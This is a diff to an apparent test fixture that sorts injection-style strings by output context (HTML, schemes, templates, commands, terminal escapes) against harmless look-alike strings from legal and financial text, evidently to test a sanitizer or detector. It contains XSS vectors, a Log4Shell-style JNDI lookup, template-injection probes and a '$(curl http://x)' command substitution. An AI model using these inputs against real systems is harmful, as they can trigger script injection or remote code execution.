@@ -16,12 +16,13 @@ ACTING = {
         "[#fff on #fff]z", "[blink]z", "[@click=app.quit]z[/]",
     ],
     "output.html": [
-        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>alert(1)</script>", "<a href='//x'>y</a>",
+        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>alert(1)</script>",
         "<details open ontoggle=alert(1)>", "<iframe srcdoc='x'>", "<IMG SRC=x>",
         "<input autofocus onfocus=alert(1)>", "<img/src='x'/onerror=alert(1)//", "<meta http-equiv=refresh content=0>",
     ],
     "output.tag": [
-        "<!-- gone -->", "<?php echo 1 ?>", "<% = x %>", "<div style='display:none'>", "<span class=x>y</span>",
+        "<!-- gone -->", "<?php echo 1 ?>", "<% = x %>", "<div style='display:none'>", "<a href='//x'>y</a>",
+        "<span class=x>y</span>",
     ],
     "output.bracket": ["[/expect]"],
     "output.image": ["![p](https://x.example/p.png)", "![](//x.example)", "![p][ref]"],
@@ -33,7 +34,8 @@ ACTING = {
     "output.calculation": ["=SUM(A1:A9)", "@SUM(B2)"],
     "output.scheme": ["javascript:alert(1)", "vbscript:x", "data:text/html;base64,PHN2Zz4=", "search-ms:query=x&c=y"],
     "output.path": ["file:///C:/Users/ann/x.docx"],
-    "output.template": ["${jndi:ldap://x/a}", "{{7*7}}", "{{ ''.__class__ }}", "$(curl http://x)", "{% import 'os' %}"],
+    "output.command": ["${jndi:ldap://x/a}", "{{7*7}}", "{{ ''.__class__ }}", "$(curl http://x)"],
+    "output.template": ["{% import 'os' %}", "{%- if x %}"],
     "output.sequence": ["\\x1b[31m red", "\\033[2J", "\\e]0;title", "^[[2K", "␛[1A"],
 }  # fmt: skip
 USUAL = [
@@ -41,7 +43,8 @@ USUAL = [
     "<Insert name>", "<PAGE>", "<TABLE>", "<S> <C>", "< $200 million 0% If >", "<<date>>", "<https://x.example>",
     "me@x.example, www.x.example", "John Doe <john@x.example>", "- a bullet", "+1 (212) 555-0100", "- POINT(s)",
     "Fee = MAX(a, b) x 12", "= 12 x the monthly fee", "on-CALL(24/7)", "[Customer](the “Client”)", "{P=A+B+C+D}",
-    "{{Sig_es_:signer1:signature}}", "${***}", "a | b | c", "Data: text/plain forms", "JavaScript: the language",
+    "{{Sig_es_:signer1:signature}}", "${***}", "{{ name }}", "${x}", "<<Firma>>",
+    "a | b | c", "Data: text/plain forms", "JavaScript: the language",
     "see Schedule [1](a)", "{[(1R,2S)-2-cyclopropyl]amino}", "C:\\files\\x", "price -CALL option", "@home", "#5 + 3",
     "if x < y and z = 3 then", "and/or //", "$(10,000)", "[Red Team] members",
 ]  # fmt: skip
